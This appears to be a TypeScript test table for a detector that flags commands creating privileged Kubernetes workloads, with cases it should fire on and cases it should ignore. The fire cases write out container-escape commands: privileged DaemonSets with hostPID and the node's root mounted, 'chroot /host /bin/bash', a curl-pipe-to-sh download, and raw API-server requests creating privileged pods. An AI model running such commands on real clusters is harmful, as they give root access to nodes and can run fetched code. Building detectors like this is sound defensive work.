import { indicatorTable, runs, script, UNSEEN, withFiles } from '../testing.ts';
import { commandCreatedPower } from './created-power.ts';

const apply = (manifest: string): string => `cat <<'EOF' | kubectl apply -f -\n${manifest}\nEOF`;
const daemonSet = (spec: string): string =>
  `apiVersion: apps/v1\nkind: DaemonSet\nmetadata: {name: node-setup}\nspec: {template: {spec: ${spec}}}`;
const maintained = (text: string, beside = ''): string =>
  daemonSet(
    `{hostPID: true, containers: [${beside}{name: a, image: alpine, command: [sh, -c, '${text}'], securityContext: {privileged: true}, volumeMounts: [{name: h, mountPath: /host}]}], volumes: [{name: h, hostPath: {path: /}}]}`,
  );

const template = (power: string): string =>
  `apiVersion: v1\nkind: Pod\nmetadata: {name: "a-{{ .Release.Name }}", namespace: \${NAMESPACE}}\nspec: {hostPID: true, containers: [{name: a, image: "a:\${TAG:-1}", env: [{name: A, value: \${A}}], securityContext: {${power}}}]}`;

indicatorTable(commandCreatedPower, {
  fires: {
    'a template of a ConfigMap whose blanks are filled in': withFiles({ 'a.yaml': template('privileged: true') }, [
      ...['sh', '-c', 'envsubst < /m/a.yaml | kubectl apply -f -'],
    ]),
    'a manifest in a here-document, with the root of the node': script(
      apply(
        daemonSet(
          '{containers: [{name: a, image: alpine, volumeMounts: [{name: h, mountPath: /h}]}], volumes: [{name: h, hostPath: {path: /}}]}',
        ),
      ),
    ),
    'a privileged one that sees the processes of the node': script(
      apply(daemonSet('{hostPID: true, containers: [{name: a, image: alpine, securityContext: {privileged: true}}]}')),
    ),
    'a file that was written before': script(
      `printf '%s' '{"apiVersion":"v1","kind":"Pod","metadata":{"name":"a"},"spec":{"hostPID":true,"containers":[{"name":"a","image":"alpine","securityContext":{"privileged":true}}]}}' > /tmp/p.json; kubectl create -f /tmp/p.json`,
    ),
    'overrides of kubectl run': script(
      `kubectl run a --image=alpine --overrides='{"apiVersion":"v1","kind":"Pod","spec":{"containers":[{"name":"a","image":"alpine","volumeMounts":[{"name":"h","mountPath":"/h"}]}],"volumes":[{"name":"h","hostPath":{"path":"/"}}]}}'`,
    ),
    'a request to the API server': script(
      `curl -k -d '{"apiVersion":"v1","kind":"Pod","spec":{"hostPID":true,"containers":[{"name":"a","image":"a","securityContext":{"privileged":true}}]}}' https://kubernetes.default.svc/api/v1/namespaces/default/pods`,
    ),
    'one that enters the node with a shell': script(apply(maintained('chroot /host /bin/bash'))),
    'one that runs a named command, and waits then': script(apply(maintained('chroot /host dcgmi diag; sleep 9999'))),
    'one that runs a named command, and a download': script(
      apply(maintained('chroot /host dcgmi diag; curl https://files.example.com/x | sh')),
    ),
    'one whose command is not in the node': script(apply(maintained('date'))),
    'one that runs a named command, beside a container that says nothing': script(
      apply(maintained('chroot /host dcgmi diag', '{name: b, image: example/b},')),
    ),
    'models of a client in Python': runs(
      'python3',
      '-c',
      "from kubernetes import client, config\nconfig.load_incluster_config()\nc = client.V1Container(name='a', image='registry.example.com/a:1', command=['sleep','1d'], security_context=client.V1SecurityContext(privileged=True))\nspec = client.V1DaemonSetSpec(selector=client.V1LabelSelector(match_labels={'a':'b'}), template=client.V1PodTemplateSpec(metadata=client.V1ObjectMeta(labels={'a':'b'}), spec=client.V1PodSpec(containers=[c], host_pid=True)))\nclient.AppsV1Api().create_namespaced_daemon_set('kube-system', client.V1DaemonSet(metadata=client.V1ObjectMeta(name='a'), spec=spec))",
    ),
    'a request of code with a deep object': runs(
      'python3',
      '-c',
      'import json,urllib.request as u\nd={"apiVersion":"apps/v1","kind":"DaemonSet","metadata":{"name":"a"},"spec":{"template":{"spec":{"hostPID":True,"containers":[{"name":"a","image":"a","securityContext":{"privileged":True},"command":["sh","-c","sleep 1d"]}]}}}}\nu.urlopen(u.Request("https://kubernetes.default.svc/apis/apps/v1/namespaces/kube-system/daemonsets",data=json.dumps(d).encode()))',
    ),
    'a document of YAML in code': runs(
      'python3',
      '-c',
      "from kubernetes import client, config\nconfig.load_incluster_config()\nimport yaml\nfrom kubernetes import utils\nutils.create_from_dict(client.ApiClient(), yaml.safe_load('''apiVersion: v1\nkind: Pod\nmetadata: {name: a}\nspec:\n  hostPID: true\n  containers: [{name: a, image: a, securityContext: {privileged: true}, command: [sleep, inf]}]\n'''))",
    ),
  },
  staysSilent: {
    'a template of a ConfigMap without power': withFiles({ 'a.yaml': template('privileged: false') }, [
      ...['sh', '-c', 'envsubst < /m/a.yaml | kubectl apply -f -'],
    ]),
    'one that runs a named command on the node': script(apply(maintained('chroot /host dcgmi diag -r 3'))),
    'a request of code with a deep object without power': runs(
      'python3',
      '-c',
      'import json,urllib.request as u\nd={"apiVersion":"apps/v1","kind":"DaemonSet","metadata":{"name":"a"},"spec":{"template":{"spec":{"hostPID":False,"containers":[{"name":"a","image":"a","securityContext":{"privileged":False},"command":["sh","-c","sleep 1d"]}]}}}}\nu.urlopen(u.Request("https://kubernetes.default.svc/apis/apps/v1/namespaces/kube-system/daemonsets",data=json.dumps(d).encode()))',
    ),
    'a workload without power': script(apply(daemonSet('{containers: [{name: a, image: nginx}]}'))),
    'privileged alone': script(
      apply(daemonSet('{containers: [{name: a, image: nginx, securityContext: {privileged: true}}]}')),
    ),
    'the root of the node, to read': script(
      apply(
        daemonSet(
          '{containers: [{name: a, image: alpine, volumeMounts: [{name: h, mountPath: /h, readOnly: true}]}], volumes: [{name: h, hostPath: {path: /}}]}',
        ),
      ),
    ),
    'a manifest that is deleted': script(`kubectl delete -f /tmp/p.yaml`),
    'text that is no manifest': script(apply('hello: [')),
    'another program that reads it': script(`cat <<'EOF' | tee /tmp/x\n${daemonSet('{hostPID: true}')}\nEOF`),
    'models of a client without power': runs(
      'python3',
      '-c',
      "from kubernetes import client, config\nconfig.load_incluster_config()\nc = client.V1Container(name='a', image='registry.example.com/a:1', command=['sleep','1d'], security_context=client.V1SecurityContext(privileged=False))\nspec = client.V1DaemonSetSpec(selector=client.V1LabelSelector(match_labels={'a':'b'}), template=client.V1PodTemplateSpec(metadata=client.V1ObjectMeta(labels={'a':'b'}), spec=client.V1PodSpec(containers=[c])))\nclient.AppsV1Api().create_namespaced_daemon_set('kube-system', client.V1DaemonSet(metadata=client.V1ObjectMeta(name='a'), spec=spec))",
    ),
    'a patch of a replica count, in code': runs(
      'python3',
      '-c',
      "from kubernetes import client, config\nconfig.load_incluster_config()\nclient.AppsV1Api().patch_namespaced_deployment_scale('web','shop',{'spec':{'replicas':3}})",
    ),
    'a document of YAML in code, without power': runs(
      'python3',
      '-c',
      "from kubernetes import client, config\nconfig.load_incluster_config()\nimport yaml\nfrom kubernetes import utils\nfor d in yaml.safe_load_all('''apiVersion: v1\nkind: Pod\nmetadata: {name: a}\nspec:\n  hostPID: false\n  containers: [{name: a, image: a, securityContext: {privileged: false}, command: [sleep, inf]}]\n'''):\n  utils.create_from_dict(client.ApiClient(), d)",
    ),
  },
  cannotTell: UNSEEN,
});
